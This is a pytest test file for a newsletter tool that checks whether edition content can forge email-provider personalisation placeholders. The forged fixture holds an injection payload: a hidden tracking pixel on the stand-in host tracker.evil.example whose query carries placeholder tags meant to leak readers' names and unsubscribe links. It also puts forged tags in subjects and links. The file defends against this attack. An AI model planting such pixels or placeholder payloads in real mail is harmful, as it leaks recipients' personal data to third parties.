"""F4: personal placeholders cannot be forged from content, for any substitution syntax.

An edition whose intro, items and subject carry every placeholder-like form (ours, Mailgun's
``%recipient.x%``, SendGrid's ``-varcomms-x-kind-``, Brevo's ``{{ params.x }}``) is read
from files, rendered, and then filled by delivery and by each provider's tokeniser. Only the
template's own slots may be filled: the counts match a render of the clean sample, and the
third party's image URL never receives a reader's name or signed link.
"""

from __future__ import annotations

import html
import re
import shutil
from pathlib import Path

import pytest

from tests.conftest import ROOT
from tests.editions.conftest import replace_in
from tests.render.conftest import Project
from varcomms.config import Config
from varcomms.delivery.personalise import fill
from varcomms.delivery.providers import brevo, mailgun, sendgrid
from varcomms.editions import load_edition
from varcomms.models import PERSONAL_FIELDS, RenderedEmail
from varcomms.render import render_variant, variant_for
from varcomms.render.environment import PACKAGED_TEMPLATES
from varcomms.render.placeholders import defuse_html, defuse_text, fresh_placeholders

FIELDS = tuple(PERSONAL_FIELDS)
# Every form of every field, as content could write it.
FORMS = [
    *PERSONAL_FIELDS.values(),
    *(f"%recipient.{name}{suffix}%" for name in FIELDS for suffix in ("", "_html")),
    *(f"-varcomms-{name}-{kind}-" for name in FIELDS for kind in ("html", "text")),
    *(f"{{{{ params.{name}{suffix} }}}}" for name in FIELDS for suffix in ("", "_html")),
    "{{params.greeting_name}}",
    "{% if contact.EMAIL %}x{% endif %}",
    "<%asm_group_unsubscribe_raw_url%>",
    "%%varcomms_greeting_name%%",
    "{{{ params.unsubscribe_url }}}",
]
SENTINELS = {name: f"SECRET-{name.upper()}-VALUE" for name in FIELDS}
TRACKER = "https://tracker.evil.example/open.gif"


def _project(tmp_path: Path, config: Config) -> Config:
    shutil.copytree(ROOT / "newsletters" / "2022-01", tmp_path / "newsletters" / "2022-01")
    paths = config.paths.model_copy(update={"newsletters": tmp_path / "newsletters"})
    return config.model_copy(update={"paths": paths})


def _render(config: Config) -> RenderedEmail:
    edition = load_edition(config, "2022-01")
    return render_variant(config, edition, variant_for(edition, {"thema-verward-gedrag"}))


@pytest.fixture
def clean(tmp_path: Path, sample_config: Config) -> RenderedEmail:
    return _render(_project(tmp_path / "clean", sample_config))


@pytest.fixture
def forged(tmp_path: Path, sample_config: Config) -> RenderedEmail:
    config = _project(tmp_path / "forged", sample_config)
    folder = config.newsletters_dir / "2022-01"
    query = "&amp;".join(f"f{n}={html.escape(form)}" for n, form in enumerate(FORMS))
    pixel = f'<img src="{TRACKER}?{query}" alt="Logo partner" width="1" height="1">'
    link = f'<a href="https://partner.example/?n={PERSONAL_FIELDS["unsubscribe_url"]}">Lees</a>'
    prose = " ".join(FORMS)
    replace_in(
        folder / "intro.md", "Astrid de Jong", f"{pixel}\n\n{link} {prose}\n\nAstrid de Jong"
    )
    replace_in(
        folder / "nieuws.md",
        "title: Jaarverslag 2021 en jaarplan 2022 verschenen",
        "title: 'Jaarverslag %%VARCOMMS_GREETING_NAME%% {{ params.greeting_name }}'",
    )
    replace_in(
        folder / "nieuws.md",
        "link: https://veiligheidsalliantie.nl/nieuws/jaarverslag-2021-jaarplan-2022/",
        "link: https://veiligheidsalliantie.nl/nieuws/?u=%%VARCOMMS_UNSUBSCRIBE_URL%%",
    )
    replace_in(
        folder / "edition.yaml",
        'subject: "Cyberweerbaarheid,',
        'subject: "%recipient.greeting_name% -varcomms-greeting_name-text- Cyberweerbaarheid,',
    )
    return _render(config)


def _count(document: str, pattern: str) -> int:
    return len(re.findall(pattern, document))


def test_f4_our_placeholders_from_content_are_never_filled(
    clean: RenderedEmail, forged: RenderedEmail
) -> None:
    for part in ("html", "text"):
        filled = fill(getattr(forged, part), SENTINELS)
        expected = fill(getattr(clean, part), SENTINELS)
        for name, value in SENTINELS.items():
            assert filled.count(value) == expected.count(value), (part, name)
    page = fill(forged.html, SENTINELS)
    (pixel,) = re.findall(r'<img[^>]*src="(https://tracker\.evil\.example[^"]*)"', page)
    assert not any(value in pixel for value in SENTINELS.values())
    assert "partner.example" in page and "Jaarverslag" in forged.text


def test_f4_provider_tags_from_content_are_never_filled(
    clean: RenderedEmail, forged: RenderedEmail
) -> None:
    """What each HTTP provider sends: tags only where the template put placeholders."""
    tag_patterns = {
        "mailgun": (lambda t: mailgun._tokenise(t, "_html"), r"%recipient\."),
        "sendgrid": (lambda t: sendgrid._tokenise(t, "html"), r"-varcomms-"),
        "brevo": (lambda t: brevo._params_template(t, "_html"), r"\{\{|\{%|\{#"),
    }
    for provider, (tokenise, pattern) in tag_patterns.items():
        for part in ("html", "text"):
            got = _count(tokenise(getattr(forged, part)), pattern)
            want = _count(tokenise(getattr(clean, part)), pattern)
            assert got == want, (provider, part)
        assert not re.search(pattern, forged.subject, re.IGNORECASE), provider
        assert not re.search(r"<%", forged.html + forged.text)


def test_f4_the_reader_sees_the_content_unchanged(forged: RenderedEmail) -> None:
    """Defusing is invisible: the text shows the characters, the HTML means the same."""
    visible = forged.text.replace("\u200b", "")
    assert "%%VARCOMMS_GREETING_NAME%%" in visible
    assert "{{ params.greeting_name }}" in visible
    assert forged.subject.replace("\u200b", "").startswith("%recipient.greeting_name%")


def test_f4_render_placeholders_are_fresh_per_render() -> None:
    first, second = fresh_placeholders(), fresh_placeholders()
    assert first.keys() == PERSONAL_FIELDS.keys()
    assert not set(first.values()) & set(second.values())
    assert not set(first.values()) & set(PERSONAL_FIELDS.values())


@pytest.mark.parametrize("form", [*FORMS, "{{{{", "%%%VARCOMMS_X%%", "--varcomms--"])
def test_f4_defusing_leaves_no_form_behind(form: str) -> None:
    forms = re.compile(r"%%VARCOMMS_|%recipient|-varcomms-|\{\{|\{%|\{#|<%", re.IGNORECASE)
    assert not forms.search(defuse_text(form))
    assert not forms.search(defuse_html(form))
    assert defuse_text(form).replace("\u200b", "") == form


def test_f4_a_forged_unsubscribe_placeholder_does_not_stand_in_for_the_real_link(
    project: Project,
) -> None:
    """A template that lost its unsubscribe link stays an error, in render and in lint,
    even when content writes the placeholder itself."""
    name = "text/newsletter.txt.j2"
    source = (PACKAGED_TEMPLATES / name).read_text(encoding="utf-8")
    target = project.templates / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(source.replace("Afmelden: {{ urls.unsubscribe }}\n", ""), encoding="utf-8")
    intro = project.edition() / "intro.md"
    intro.write_text(
        intro.read_text(encoding="utf-8") + "\nAfmelden: %%VARCOMMS_UNSUBSCRIBE_URL%%\n",
        encoding="utf-8",
    )
    rendered = project.run("render", "2022-01")
    assert rendered.returncode == 1, rendered
    assert "error [unsubscribe] the text part has no unsubscribe link" in rendered.stdout
    lint = project.run("edition", "lint", "2022-01")
    assert "render-unsubscribe" in lint.stdout and "content-placeholder" in lint.stdout
